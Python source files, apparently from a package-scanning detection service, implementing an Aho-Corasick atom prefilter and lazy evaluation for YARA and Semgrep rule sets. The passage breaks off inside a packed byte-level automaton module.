        only when at least one of its firing modes has **all** of its
        anchors present in the text.  Non-indexable rules bypass both.
        """
        if self.semgrep is None:
            return []
        if folded is None:
            folded = target.folded_text
        if hits is None:
            hits = self._automaton.find(folded)
        member_cache: dict[str, bool] = {}

        def present(member: str) -> bool:
            atom_id = self._atom_ids.get(member)
            if atom_id is not None:
                return atom_id in hits
            cached = member_cache.get(member)
            if cached is None:
                cached = member in folded
                member_cache[member] = cached
            return cached

        rules = self.semgrep.rules
        candidates: list[CompiledSemgrepRule] = []
        for position in self._positions(hits, "semgrep", self._fallback_semgrep):
            if position not in self._fallback_semgrep_set:
                required = self._semgrep_required[position]
                if required and not any(
                    all(present(member) for member in alternative)
                    for alternative in required
                ):
                    continue
            candidates.append(rules[position])
        return candidates

    # -- full matching ------------------------------------------------------------
    def _firing_positions(
        self,
        text: str,
        cost_sink=None,
        package: str = "",
        folded: Optional[str] = None,
        hits: Optional[set[int]] = None,
    ) -> list[int]:
        """Positions of the YARA rules whose conditions hold on ``text``.

        Two-stage evaluation: the atom hit set narrows the batch to candidate
        rules, then each candidate's condition is decided by the lazy
        evaluator — strings whose gate literal is absent are unmatchable
        without running their regex, the rest are existence-probed with early
        exit.  String probes are shared across this package's candidates
        (registry rule sets repeat literals and patterns constantly).  The
        verdicts are exactly those of naive scanning.

        ``cost_sink`` (``record(engine, rule_key, seconds, package)``)
        receives the per-candidate evaluation time for telemetry.
        """
        if folded is None:
            folded = text.casefold()
        if hits is None:
            hits = self._automaton.find(folded)
        # gate literals that double as candidacy atoms were just scanned;
        # the rest are membership-checked on demand, memoised per call
        gate_cache: dict[str, bool] = {}
        probe_memo: dict = {}
        firing: list[int] = []
        rules = self.yara.rules
        for position in self._positions(hits, "yara", self._fallback_yara):
            rule = rules[position]
            started = time.perf_counter() if cost_sink is not None else 0.0
            blocked: set[str] = set()
            for identifier, atom in self._yara_gates[position].items():
                atom_id = self._atom_ids.get(atom)
                if atom_id is not None:
                    present = atom_id in hits
                else:
                    present = gate_cache.get(atom)
                    if present is None:
                        present = atom in folded
                        gate_cache[atom] = present
                if not present:
                    blocked.add(identifier)
            identifiers, ranks = self._yara_eval[position]
            evaluator = _LazyConditionEvaluator(
                rule.strings,
                text,
                blocked,
                identifiers=identifiers,
                probe_memo=probe_memo,
                probe_rank=ranks,
            )
            if rule.ast.condition is not None and evaluator.evaluate(rule.ast.condition):
                firing.append(position)
            if cost_sink is not None:
                cost_sink.record(
                    "yara", rule.name, time.perf_counter() - started, package
                )
        return firing

    def yara_rule_names(
        self,
        text: str,
        cost_sink=None,
        package: str = "",
        folded: Optional[str] = None,
        hits: Optional[set[int]] = None,
    ) -> list[str]:
        """Names of the YARA rules that fire on ``text`` (in rule order).

        The detection-service fast path: identical rule names to
        ``CompiledRuleSet.match(text)`` without materialising the per-string
        occurrence lists a full :class:`RuleMatch` carries.
        """
        if self.yara is None:
            return []
        rules = self.yara.rules
        return [
            rules[position].name
            for position in self._firing_positions(
                text, cost_sink, package, folded=folded, hits=hits
            )
        ]

    def match_yara(self, text: str) -> list[RuleMatch]:
        """Identical to ``CompiledRuleSet.match(text)``, prefilter included.

        Only rules whose conditions verifiably hold pay for full occurrence
        collection, so the expensive path runs exactly as often as there are
        detections.
        """
        if self.yara is None:
            return []
        results: list[RuleMatch] = []
        rules = self.yara.rules
        for position in self._firing_positions(text):
            found = rules[position].match(text)
            if found is not None:
                results.append(found)
        return results

    def match_semgrep(
        self,
        target: ScanTarget,
        cost_sink=None,
        folded: Optional[str] = None,
        hits: Optional[set[int]] = None,
    ) -> list[SemgrepFinding]:
        """Identical to ``CompiledSemgrepRuleSet.match_target(target)``."""
        findings: list[SemgrepFinding] = []
        for rule in self.candidate_semgrep_rules(target, folded=folded, hits=hits):
            started = time.perf_counter() if cost_sink is not None else 0.0
            findings.extend(rule.match_target(target))
            if cost_sink is not None:
                cost_sink.record(
                    "semgrep", rule.id, time.perf_counter() - started, target.name
                )
        return findings

    # -- introspection ------------------------------------------------------------
    @property
    def lane(self) -> str:
        """Which atom-scan lane this index uses (fixed per vocabulary)."""
        return self._automaton.lane

    def stats(self) -> IndexStats:
        yara_total = len(self.yara.rules) if self.yara is not None else 0
        semgrep_total = len(self.semgrep.rules) if self.semgrep is not None else 0
        packed = self._automaton.packed
        return IndexStats(
            yara_rules=yara_total,
            yara_indexed=yara_total - len(self._fallback_yara),
            semgrep_rules=semgrep_total,
            semgrep_indexed=semgrep_total - len(self._fallback_semgrep),
            atoms=len(self._automaton),
            automaton_states=self._automaton.state_count,
            lane=self._automaton.lane,
            automaton_threshold=self._automaton.automaton_threshold,
            packed_mode=packed.mode,
            packed_memory_bytes=packed.memory_bytes,
            batch_guards=packed.guard_count,
        )

    def fallback_reasons(self) -> dict[str, str]:
        """Why each non-indexable rule bypasses the prefilter."""
        return {
            atoms.rule_key: atoms.reason
            for atoms in self.rule_atoms
            if not atoms.indexable
        }
