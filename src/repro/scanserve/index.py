"""Atom-prefilter rule index.

:class:`AhoCorasick` is a classic goto/fail automaton over the atom
vocabulary; one pass over the haystack reports every atom that occurs.
:class:`RuleIndex` maps those hits back to candidate rules and fully
evaluates *only* the candidates (plus the fallback lane of rules that
exposed no atoms), which keeps indexed scanning bit-for-bit identical to
naive scanning while skipping the vast majority of rule evaluations.

Performance note: below a few hundred atoms, a per-atom C-speed substring
scan (``atom in text``) beats stepping a pure-Python automaton through the
haystack character by character, so :meth:`AhoCorasick.find` picks the
strategy by vocabulary size.  Both strategies return identical hit sets
(property-tested); the automaton is the asymptotic lane for large registries
of rules.
"""

from __future__ import annotations

import time
from collections import deque
from dataclasses import dataclass
from typing import Iterable, Optional

from repro.scanserve.atoms import (
    DEFAULT_MIN_ATOM_LENGTH,
    RuleAtoms,
    semgrep_rule_atoms,
    yara_rule_atoms,
)
from repro.semgrepx.compiler import CompiledSemgrepRule, CompiledSemgrepRuleSet
from repro.semgrepx.matcher import ScanTarget, SemgrepFinding
from repro.yarax import ast_nodes as yast
from repro.yarax.compiler import CompiledRule, CompiledRuleSet
from repro.yarax.matcher import CompiledString, ConditionEvaluator, RuleMatch

# below this many atoms, per-atom ``str.find`` (C speed) beats the
# pure-Python automaton walk; above it the O(n) automaton wins.  The
# crossover is hardware-dependent, so it is a tunable: see
# ``ScanServiceConfig.automaton_threshold`` / ``RuleIndex``.
AUTOMATON_THRESHOLD = 512

#: Lane names reported by :attr:`AhoCorasick.lane` / :meth:`RuleIndex.stats`.
AUTOMATON_LANE = "automaton"
SUBSTRING_LANE = "substring"


class AhoCorasick:
    """Multi-pattern literal matcher (goto/fail automaton)."""

    def __init__(
        self, words: Iterable[str], automaton_threshold: Optional[int] = None
    ) -> None:
        self.automaton_threshold = (
            AUTOMATON_THRESHOLD if automaton_threshold is None else automaton_threshold
        )
        self.words: list[str] = []
        seen: dict[str, int] = {}
        for word in words:
            if not word:
                raise ValueError("cannot index an empty atom")
            if word not in seen:
                seen[word] = len(self.words)
                self.words.append(word)
        # trie: per-state dict of char -> next state
        self._goto: list[dict[str, int]] = [{}]
        self._output: list[list[int]] = [[]]
        for word_id, word in enumerate(self.words):
            state = 0
            for char in word:
                nxt = self._goto[state].get(char)
                if nxt is None:
                    nxt = len(self._goto)
                    self._goto[state][char] = nxt
                    self._goto.append({})
                    self._output.append([])
                state = nxt
            self._output[state].append(word_id)
        # BFS failure links; outputs are merged so a state reports every
        # word ending at it (including proper suffixes)
        self._fail: list[int] = [0] * len(self._goto)
        queue: deque[int] = deque()
        for state in self._goto[0].values():
            queue.append(state)
        while queue:
            state = queue.popleft()
            for char, nxt in self._goto[state].items():
                queue.append(nxt)
                fallback = self._fail[state]
                while fallback and char not in self._goto[fallback]:
                    fallback = self._fail[fallback]
                self._fail[nxt] = self._goto[fallback].get(char, 0)
                if self._fail[nxt] == nxt:
                    self._fail[nxt] = 0
                self._output[nxt].extend(self._output[self._fail[nxt]])

    def __len__(self) -> int:
        return len(self.words)

    @property
    def state_count(self) -> int:
        return len(self._goto)

    # -- scanning ---------------------------------------------------------------
    def find_automaton(self, text: str) -> set[int]:
        """One automaton pass; returns the ids of every word occurring in text."""
        hits: set[int] = set()
        pending = len(self.words)
        state = 0
        goto, fail, output = self._goto, self._fail, self._output
        for char in text:
            while state and char not in goto[state]:
                state = fail[state]
            state = goto[state].get(char, 0)
            if output[state]:
                for word_id in output[state]:
                    if word_id not in hits:
                        hits.add(word_id)
                        pending -= 1
                if not pending:
                    break  # every word already found
        return hits

    def find_substring(self, text: str) -> set[int]:
        """Per-atom C-speed substring scan; same result as the automaton."""
        return {i for i, word in enumerate(self.words) if word in text}

    @property
    def lane(self) -> str:
        """Which scan strategy :meth:`find` uses for this vocabulary size."""
        if len(self.words) >= self.automaton_threshold:
            return AUTOMATON_LANE
        return SUBSTRING_LANE

    def find(self, text: str) -> set[int]:
        if self.lane == AUTOMATON_LANE:
            return self.find_automaton(text)
        return self.find_substring(text)


class _LazyConditionEvaluator(ConditionEvaluator):
    """Condition evaluation that only runs the string scans it needs.

    Naive scanning collects *every* occurrence of *every* string before
    evaluating the condition.  Here a string whose gate atom was absent from
    the scanned text is known unmatchable without running its regex at all;
    the remaining strings are probed lazily — an existence check
    (``re.search``, early exit) unless the condition genuinely needs a count.
    The verdict is exactly :class:`ConditionEvaluator`'s (corpus- and
    property-tested); only the work to reach it changes.
    """

    def __init__(self, strings: list[CompiledString], data: str, blocked: set[str]) -> None:
        super().__init__(
            matches_by_id={},
            all_identifiers=[cs.identifier for cs in strings],
            data_length=len(data),
        )
        self._strings = {cs.identifier: cs for cs in strings}
        self._data = data
        self._blocked = blocked
        self._exists: dict[str, bool] = {}
        self._counts: dict[str, int] = {}

    def _string_exists(self, identifier: str) -> bool:
        cached = self._exists.get(identifier)
        if cached is None:
            if identifier in self._blocked or identifier not in self._strings:
                cached = False
            else:
                cached = self._strings[identifier].search(self._data)
            self._exists[identifier] = cached
        return cached

    def _string_count(self, identifier: str) -> int:
        cached = self._counts.get(identifier)
        if cached is None:
            if identifier in self._blocked or identifier not in self._strings:
                cached = 0
            else:
                # same 1000-occurrence cap as CompiledString.find's default
                cached = len(self._strings[identifier].find(self._data))
            self._counts[identifier] = cached
        return cached

    def _eval(self, expr):
        if isinstance(expr, yast.StringRef):
            return self._string_exists(expr.identifier)
        if isinstance(expr, yast.StringCount):
            return self._string_count(expr.identifier)
        return super()._eval(expr)

    def _eval_of(self, expr: yast.OfExpr) -> bool:
        if expr.string_set.them:
            identifiers = list(self.all_identifiers)
        else:
            identifiers = []
            for member in expr.string_set.members:
                if member.endswith("*"):
                    prefix = member[:-1]
                    identifiers.extend(i for i in self.all_identifiers if i.startswith(prefix))
                else:
                    identifiers.append(member)
        total = len(identifiers)
        if expr.quantifier == "any":
            return any(self._string_exists(i) for i in identifiers)
        if expr.quantifier == "all":
            return total > 0 and all(self._string_exists(i) for i in identifiers)
        needed = int(expr.quantifier)
        matched = 0
        for remaining, identifier in zip(range(total, 0, -1), identifiers):
            if matched + remaining < needed:
                break  # cannot reach the quantifier any more
            if self._string_exists(identifier):
                matched += 1
                if matched >= needed:
                    return True
        return matched >= needed


@dataclass
class IndexStats:
    """How much of a rule set the index can prefilter."""

    yara_rules: int = 0
    yara_indexed: int = 0
    semgrep_rules: int = 0
    semgrep_indexed: int = 0
    atoms: int = 0
    automaton_states: int = 0
    lane: str = SUBSTRING_LANE
    automaton_threshold: int = AUTOMATON_THRESHOLD

    @property
    def indexed_fraction(self) -> float:
        total = self.yara_rules + self.semgrep_rules
        if not total:
            return 0.0
        return (self.yara_indexed + self.semgrep_indexed) / total


class RuleIndex:
    """Prefilter index over a compiled YARA and/or Semgrep rule set.

    ``match_yara`` / ``match_semgrep`` produce exactly what
    ``CompiledRuleSet.match`` / ``CompiledSemgrepRuleSet.match_target``
    would, in the same order — rules whose atoms did not occur are provably
    unable to fire and are skipped without evaluation.
    """

    def __init__(
        self,
        yara: Optional[CompiledRuleSet] = None,
        semgrep: Optional[CompiledSemgrepRuleSet] = None,
        min_atom_length: int = DEFAULT_MIN_ATOM_LENGTH,
        automaton_threshold: Optional[int] = None,
    ) -> None:
        self.yara = yara
        self.semgrep = semgrep
        self.min_atom_length = min_atom_length
        self.automaton_threshold = automaton_threshold
        self.rule_atoms: list[RuleAtoms] = []

        vocabulary: dict[str, int] = {}
        # atom id -> rule slots; a slot is ("yara"|"semgrep", position)
        postings: dict[int, list[tuple[str, int]]] = {}
        self._fallback_yara: list[int] = []
        self._fallback_semgrep: list[int] = []

        def register(atoms: RuleAtoms, engine: str, position: int) -> None:
            self.rule_atoms.append(atoms)
            if not atoms.indexable:
                if engine == "yara":
                    self._fallback_yara.append(position)
                else:
                    self._fallback_semgrep.append(position)
                return
            for atom in atoms.atoms:
                atom_id = vocabulary.setdefault(atom, len(vocabulary))
                postings.setdefault(atom_id, []).append((engine, position))

        # per-rule string gates: identifier -> one required (casefolded)
        # literal.  A gated string whose literal is absent from the scanned
        # text cannot match, so its regex is never run (YARA's atom->confirm
        # strategy).  Gates are checked on demand per candidate — only
        # rule-candidacy atoms go through the automaton pass.
        self._yara_gates: list[dict[str, str]] = []
        # per-semgrep-rule required anchor sets (all-of each, any set
        # suffices): a candidate whose sets are all incomplete in the text
        # cannot fire and skips structural matching entirely
        self._semgrep_required: list[tuple[tuple[str, ...], ...]] = []

        for position, rule in enumerate(yara.rules if yara is not None else []):
            register(yara_rule_atoms(rule, min_atom_length), "yara", position)
            gates: dict[str, str] = {}
            for compiled_string in rule.strings:
                string_atoms = compiled_string.atoms(min_atom_length)
                if string_atoms:
                    gates[compiled_string.identifier] = max(
                        string_atoms, key=len
                    ).casefold()
            self._yara_gates.append(gates)
        for position, rule in enumerate(semgrep.rules if semgrep is not None else []):
            atoms = semgrep_rule_atoms(rule, min_atom_length)
            register(atoms, "semgrep", position)
            self._semgrep_required.append(atoms.required_sets)

        self._automaton = AhoCorasick(
            vocabulary.keys(), automaton_threshold=automaton_threshold
        )
        self._postings = postings
        self._fallback_semgrep_set = frozenset(self._fallback_semgrep)
        # literal -> automaton word id, for gate checks: a gate literal that
        # doubles as a candidacy atom is answered from the automaton's hit
        # set instead of a fresh substring scan
        self._atom_ids: dict[str, int] = {
            word: word_id for word_id, word in enumerate(self._automaton.words)
        }

    # -- candidate selection ------------------------------------------------------
    def _positions(self, hits: set[int], engine: str, fallback: list[int]) -> list[int]:
        positions = set(fallback)
        for atom_id in hits:
            for posting_engine, position in self._postings.get(atom_id, []):
                if posting_engine == engine:
                    positions.add(position)
        return sorted(positions)

    def candidate_yara_rules(self, text: str) -> list[CompiledRule]:
        """The only YARA rules that can possibly fire on ``text`` (in rule order)."""
        if self.yara is None:
            return []
        hits = self._automaton.find(text.casefold())
        rules = self.yara.rules
        return [rules[i] for i in self._positions(hits, "yara", self._fallback_yara)]

    def candidate_semgrep_rules(self, target: ScanTarget) -> list[CompiledSemgrepRule]:
        """The only Semgrep rules that can possibly fire on ``target``.

        Two-stage prefilter: atom candidacy (any representative atom
        occurred), then the *required anchor set* gate — a rule survives
        only when at least one of its firing modes has **all** of its
        anchors present in the text.  Non-indexable rules bypass both.
        """
        if self.semgrep is None:
            return []
        folded = target.text.casefold()
        hits = self._automaton.find(folded)
        member_cache: dict[str, bool] = {}

        def present(member: str) -> bool:
            atom_id = self._atom_ids.get(member)
            if atom_id is not None:
                return atom_id in hits
            cached = member_cache.get(member)
            if cached is None:
                cached = member in folded
                member_cache[member] = cached
            return cached

        rules = self.semgrep.rules
        candidates: list[CompiledSemgrepRule] = []
        for position in self._positions(hits, "semgrep", self._fallback_semgrep):
            if position not in self._fallback_semgrep_set:
                required = self._semgrep_required[position]
                if required and not any(
                    all(present(member) for member in alternative)
                    for alternative in required
                ):
                    continue
            candidates.append(rules[position])
        return candidates

    # -- full matching ------------------------------------------------------------
    def _firing_positions(
        self, text: str, cost_sink=None, package: str = ""
    ) -> list[int]:
        """Positions of the YARA rules whose conditions hold on ``text``.

        Two-stage evaluation: the atom hit set narrows the batch to candidate
        rules, then each candidate's condition is decided by the lazy
        evaluator — strings whose gate literal is absent are unmatchable
        without running their regex, the rest are existence-probed with early
        exit.  The verdicts are exactly those of naive scanning.

        ``cost_sink`` (``record(engine, rule_key, seconds, package)``)
        receives the per-candidate evaluation time for telemetry.
        """
        folded = text.casefold()
        hits = self._automaton.find(folded)
        # gate literals that double as candidacy atoms were just scanned;
        # the rest are membership-checked on demand, memoised per call
        gate_cache: dict[str, bool] = {}
        firing: list[int] = []
        rules = self.yara.rules
        for position in self._positions(hits, "yara", self._fallback_yara):
            rule = rules[position]
            started = time.perf_counter() if cost_sink is not None else 0.0
            blocked: set[str] = set()
            for identifier, atom in self._yara_gates[position].items():
                atom_id = self._atom_ids.get(atom)
                if atom_id is not None:
                    present = atom_id in hits
                else:
                    present = gate_cache.get(atom)
                    if present is None:
                        present = atom in folded
                        gate_cache[atom] = present
                if not present:
                    blocked.add(identifier)
            evaluator = _LazyConditionEvaluator(rule.strings, text, blocked)
            if rule.ast.condition is not None and evaluator.evaluate(rule.ast.condition):
                firing.append(position)
            if cost_sink is not None:
                cost_sink.record(
                    "yara", rule.name, time.perf_counter() - started, package
                )
        return firing

    def yara_rule_names(
        self, text: str, cost_sink=None, package: str = ""
    ) -> list[str]:
        """Names of the YARA rules that fire on ``text`` (in rule order).

        The detection-service fast path: identical rule names to
        ``CompiledRuleSet.match(text)`` without materialising the per-string
        occurrence lists a full :class:`RuleMatch` carries.
        """
        if self.yara is None:
            return []
        rules = self.yara.rules
        return [
            rules[position].name
            for position in self._firing_positions(text, cost_sink, package)
        ]

    def match_yara(self, text: str) -> list[RuleMatch]:
        """Identical to ``CompiledRuleSet.match(text)``, prefilter included.

        Only rules whose conditions verifiably hold pay for full occurrence
        collection, so the expensive path runs exactly as often as there are
        detections.
        """
        if self.yara is None:
            return []
        results: list[RuleMatch] = []
        rules = self.yara.rules
        for position in self._firing_positions(text):
            found = rules[position].match(text)
            if found is not None:
                results.append(found)
        return results

    def match_semgrep(self, target: ScanTarget, cost_sink=None) -> list[SemgrepFinding]:
        """Identical to ``CompiledSemgrepRuleSet.match_target(target)``."""
        findings: list[SemgrepFinding] = []
        for rule in self.candidate_semgrep_rules(target):
            started = time.perf_counter() if cost_sink is not None else 0.0
            findings.extend(rule.match_target(target))
            if cost_sink is not None:
                cost_sink.record(
                    "semgrep", rule.id, time.perf_counter() - started, target.name
                )
        return findings

    # -- introspection ------------------------------------------------------------
    @property
    def lane(self) -> str:
        """Which atom-scan lane this index uses (fixed per vocabulary)."""
        return self._automaton.lane

    def stats(self) -> IndexStats:
        yara_total = len(self.yara.rules) if self.yara is not None else 0
        semgrep_total = len(self.semgrep.rules) if self.semgrep is not None else 0
        return IndexStats(
            yara_rules=yara_total,
            yara_indexed=yara_total - len(self._fallback_yara),
            semgrep_rules=semgrep_total,
            semgrep_indexed=semgrep_total - len(self._fallback_semgrep),
            atoms=len(self._automaton),
            automaton_states=self._automaton.state_count,
            lane=self._automaton.lane,
            automaton_threshold=self._automaton.automaton_threshold,
        )

    def fallback_reasons(self) -> dict[str, str]:
        """Why each non-indexable rule bypasses the prefilter."""
        return {
            atoms.rule_key: atoms.reason
            for atoms in self.rule_atoms
            if not atoms.indexable
        }
