"""Packed byte-level Aho–Corasick automaton.

:class:`PackedAutomaton` compiles the atom vocabulary into flat packed
tables and scans haystacks as ``bytes`` with no per-position dict lookups.
It is the hot-path replacement for the dict-of-dicts walk in
:class:`repro.scanserve.index.AhoCorasick`, which stays as the readable
reference implementation (and the property-test oracle).

Two table layouts, chosen automatically by size:

``dense``
    The goto/fail trie is expanded into a full DFA over a *compressed*
    alphabet (only bytes that occur in some word get a symbol; every other
    byte maps to symbol 0, which always leads back to the root).  State ids
    are stored pre-multiplied by the alphabet size, so the entire inner loop
    is ``state = delta[state + symbol]`` on one flat ``array('i')``.  Output
    states are renumbered to the *end* of the id space, so "did a word end
    here" is a single ``state >= boundary`` comparison instead of a lookup.

``sparse``
    Above a cell budget the full DFA would be too large, so the goto trie is
    packed into a classic base/check double array (first-fit allocation) and
    the walk chases failure links explicitly.  Same hit sets, bounded memory.

Both layouts serialize: :meth:`to_bytes` emits a self-describing blob,
:meth:`from_bytes` restores it without re-running construction, and
``pickle`` round-trips via the same blob — that is what lets a process-pool
shard worker or a durable registry attach to published tables instead of
recompiling them.

Correctness notes (property-tested against both reference lanes):

* Words and haystacks are encoded UTF-8 with ``surrogatepass`` (casefolded
  *str* produced upstream may contain lone surrogates).  UTF-8 is
  self-synchronizing, so a byte-level substring match is exactly a
  character-level substring match — no false positives from matches starting
  mid-character.
* Callers fold *then* encode.  The automaton never maps byte offsets back to
  the original string, so casefold length changes (``ß`` → ``ss``) are safe.
* :meth:`find_batch` joins a whole batch with a separator byte that occurs
  in no word, so one C-speed ``bytes.find`` per guard prefix covers every
  text; a match can never span two texts because it would have to contain
  the separator.
"""

from __future__ import annotations

import struct
from array import array
from bisect import bisect_right
from collections import deque
from typing import Iterable, List, Optional, Sequence, Set, Union

__all__ = [
    "PackedAutomaton",
    "DENSE_CELL_BUDGET",
    "BATCH_GUARD_LIMIT",
    "BATCH_WORD_LIMIT",
    "GUARD_PREFIX_LENGTH",
]

#: Above this many cells (states x alphabet) the dense full-DFA table is not
#: built and the base/check layout is used instead.  8M int32 cells = 32 MiB,
#: which comfortably covers a 5k-rule registry (~10k atoms, ~140k states).
DENSE_CELL_BUDGET = 8 * 1024 * 1024

#: ``find_batch`` uses the joined guard-prefix lane while the vocabulary
#: groups into at most this many guard prefixes; beyond that the per-text
#: DFA walk is cheaper (one C ``find`` per guard costs ~1 pass each).
BATCH_GUARD_LIMIT = 384

#: ...and while the vocabulary holds at most this many words: verification
#: loops over a guard's members at every guard occurrence, so huge
#: vocabularies behind few guards pay more in verification than the DFA
#: walk costs (measured crossover ~2k words in the throughput bench sweep).
BATCH_WORD_LIMIT = 2048

#: Guard prefix length (bytes) for the batch lane.  Words shorter than this
#: are their own guard and need no verification step.
GUARD_PREFIX_LENGTH = 8

_MAGIC = b"PKAC"
_FORMAT_VERSION = 1
_MODE_DENSE = 0
_MODE_SPARSE = 1

_HEADER = struct.Struct(
    "<4sBBBBiiiiii"
)  # magic, version, mode, itemsize, flags, K, states, out_first, words, sep, guard_limit


def _encode(text: Union[str, bytes]) -> bytes:
    if isinstance(text, bytes):
        return text
    return text.encode("utf-8", "surrogatepass")


class PackedAutomaton:
    """Multi-pattern literal matcher over flat packed byte-level tables.

    Drop-in result-compatible with :class:`AhoCorasick`: ``find(text)``
    returns the ids (indices into ``words``) of every word occurring in
    ``text``, by plain substring semantics.  Inputs are matched exactly as
    given — casefolding is the caller's convention, applied before encoding.
    """

    def __init__(
        self,
        words: Iterable[str],
        dense_cell_budget: int = DENSE_CELL_BUDGET,
        batch_guard_limit: int = BATCH_GUARD_LIMIT,
    ) -> None:
        self.words: list[str] = []
        seen: dict[str, int] = {}
        for word in words:
            if not word:
                raise ValueError("cannot index an empty atom")
            if word not in seen:
                seen[word] = len(self.words)
                self.words.append(word)
        self.dense_cell_budget = dense_cell_budget
        self.batch_guard_limit = batch_guard_limit
        self._build()

    # -- construction -------------------------------------------------------------
    def _build(self) -> None:
        encoded = [_encode(w) for w in self.words]
        self._encoded = encoded

        # byte trie (dict form, construction only)
        goto: list[dict[int, int]] = [{}]
        out: list[list[int]] = [[]]
        for word_id, word in enumerate(encoded):
            state = 0
            for byte in word:
                nxt = goto[state].get(byte)
                if nxt is None:
                    nxt = len(goto)
                    goto[state][byte] = nxt
                    goto.append({})
                    out.append([])
                state = nxt
            out[state].append(word_id)

        # BFS failure links with merged outputs (a state reports every word
        # ending at it, proper suffixes included)
        fail = [0] * len(goto)
        order: list[int] = [0]
        queue: deque[int] = deque(goto[0].values())
        while queue:
            state = queue.popleft()
            order.append(state)
            for byte, nxt in goto[state].items():
                queue.append(nxt)
                fallback = fail[state]
                while fallback and byte not in goto[fallback]:
                    fallback = fail[fallback]
                target = goto[fallback].get(byte, 0)
                fail[nxt] = 0 if target == nxt else target
                out[nxt].extend(out[fail[nxt]])

        # compressed alphabet: only bytes used by some word get a symbol;
        # everything else maps to symbol 0, which no state transitions on
        used = sorted({b for w in encoded for b in w})
        symbol = {b: i + 1 for i, b in enumerate(used)}
        alphabet = len(used) + 1
        self.alphabet_size = alphabet
        self._translate = bytes(symbol.get(b, 0) for b in range(256))
        unused = [b for b in range(256) if b not in symbol]
        self._sep: Optional[int] = unused[0] if unused else None

        # renumber states: non-output states first (root stays 0), output
        # states at the end, both in BFS order — "has output" becomes a
        # single ``state >= out_first`` comparison in the walk
        n_states = len(goto)
        new_id = [0] * n_states
        non_out = [s for s in order if not out[s]]
        with_out = [s for s in order if out[s]]
        assert non_out and non_out[0] == 0, "root can never be an output state"
        for i, s in enumerate(non_out + with_out):
            new_id[s] = i
        out_first = len(non_out)
        self.state_count = n_states
        self._out_first = out_first

        # flat merged output lists, indexed by (new_id - out_first)
        out_offsets = array("i", [0] * (len(with_out) + 1))
        out_words = array("i")
        for i, s in enumerate(with_out):
            out_words.extend(out[s])
            out_offsets[i + 1] = len(out_words)
        self._out_offsets = out_offsets
        self._out_words = out_words

        if n_states * alphabet <= self.dense_cell_budget:
            self._build_dense(goto, fail, order, new_id, alphabet, out_first)
        else:
            self._build_sparse(goto, fail, order, new_id, alphabet)
        self._finalize()

    def _build_dense(
        self,
        goto: list[dict[int, int]],
        fail: list[int],
        order: list[int],
        new_id: list[int],
        alphabet: int,
        out_first: int,
    ) -> None:
        """Full-DFA expansion: failure links folded into one flat table.

        Rows hold *pre-multiplied* successor ids so the walk needs no
        multiply.  Each state's row starts as a copy of its failure state's
        (already final, BFS guarantees shallower-first) row — a C-speed
        slice copy — then its own children overwrite their symbols.
        """
        self.mode = "dense"
        delta = array("i", [0]) * (len(goto) * alphabet)
        translate = self._translate
        for state in order:
            base = new_id[state] * alphabet
            if state:
                fbase = new_id[fail[state]] * alphabet
                delta[base : base + alphabet] = delta[fbase : fbase + alphabet]
            for byte, nxt in goto[state].items():
                delta[base + translate[byte]] = new_id[nxt] * alphabet
        self._delta = delta
        self._out_boundary = out_first * alphabet
        self._base = self._check = self._next = self._fail = None

    def _build_sparse(
        self,
        goto: list[dict[int, int]],
        fail: list[int],
        order: list[int],
        new_id: list[int],
        alphabet: int,
    ) -> None:
        """Base/check double-array over the goto trie (first-fit packing).

        ``check`` stores *owner id + 1* so zero-initialised cells never
        alias state 0; the walk chases failure links explicitly, exactly
        like the dict automaton, but over three flat int arrays.
        """
        self.mode = "sparse"
        n_states = len(goto)
        capacity = max(alphabet + 1, n_states + alphabet + 1)
        base = array("i", [0]) * n_states
        check = array("i", [0]) * capacity
        nxt_arr = array("i", [0]) * capacity
        packed_fail = array("i", [0]) * n_states
        translate = self._translate
        search_start = 1
        for state in order:
            packed_fail[new_id[state]] = new_id[fail[state]]
            children = goto[state]
            if not children:
                continue
            syms = [translate[b] for b in children]
            b = search_start
            while True:
                limit = b + alphabet + 1
                if limit >= len(check):
                    grow = limit + alphabet + 1 - len(check)
                    check.extend([0] * grow)
                    nxt_arr.extend([0] * grow)
                if all(not check[b + sym] for sym in syms):
                    break
                b += 1
            base[new_id[state]] = b
            owner = new_id[state] + 1
            for byte, child in children.items():
                slot = b + translate[byte]
                check[slot] = owner
                nxt_arr[slot] = new_id[child]
            while search_start < len(check) and check[search_start]:
                search_start += 1
        self._base = base
        self._check = check
        self._next = nxt_arr
        self._fail = packed_fail
        self._delta = None
        self._out_boundary = self._out_first

    def _finalize(self) -> None:
        """Derived lookup structures shared by both layouts."""
        # output tuples keyed by the walk's raw state value (pre-multiplied
        # in dense mode) — hits are rare, so a dict probe per hit is fine
        offsets, flat = self._out_offsets, self._out_words
        step = self.alphabet_size if self.mode == "dense" else 1
        boundary = self._out_boundary
        self._out_by_state = {
            boundary + i * step: tuple(flat[offsets[i] : offsets[i + 1]])
            for i in range(len(offsets) - 1)
        }
        # guard groups for the batch lane: words bucketed by their first
        # GUARD_PREFIX_LENGTH bytes; one C find per guard, then per-text
        # verification of the longer members
        guards: dict[bytes, list[int]] = {}
        for word_id, word in enumerate(self._encoded):
            guards.setdefault(word[:GUARD_PREFIX_LENGTH], []).append(word_id)
        self._guards = guards

    # -- introspection ------------------------------------------------------------
    def __len__(self) -> int:
        return len(self.words)

    @property
    def guard_count(self) -> int:
        return len(self._guards)

    @property
    def memory_bytes(self) -> int:
        """Total size of the packed tables (not the word list)."""
        total = len(self._out_offsets) * self._out_offsets.itemsize
        total += len(self._out_words) * self._out_words.itemsize
        total += len(self._translate)
        if self.mode == "dense":
            total += len(self._delta) * self._delta.itemsize
        else:
            for arr in (self._base, self._check, self._next, self._fail):
                total += len(arr) * arr.itemsize
        return total

    # -- scanning -----------------------------------------------------------------
    def find(self, text: Union[str, bytes]) -> Set[int]:
        """Ids of every word occurring in ``text`` (substring semantics)."""
        return self.find_bytes(_encode(text))

    def find_bytes(self, data: bytes) -> Set[int]:
        if not self.words:
            return set()
        if self.mode == "dense":
            return self._find_dense(data)
        return self._find_sparse(data)

    def _find_dense(self, data: bytes) -> Set[int]:
        delta = self._delta
        boundary = self._out_boundary
        outputs = self._out_by_state
        hits: set[int] = set()
        pending = len(self.words)
        state = 0
        for sym in data.translate(self._translate):
            state = delta[state + sym]
            if state >= boundary:
                for word_id in outputs[state]:
                    if word_id not in hits:
                        hits.add(word_id)
                        pending -= 1
                if not pending:
                    break
        return hits

    def _find_sparse(self, data: bytes) -> Set[int]:
        base, check, nxt, fail = self._base, self._check, self._next, self._fail
        boundary = self._out_boundary
        outputs = self._out_by_state
        hits: set[int] = set()
        pending = len(self.words)
        state = 0
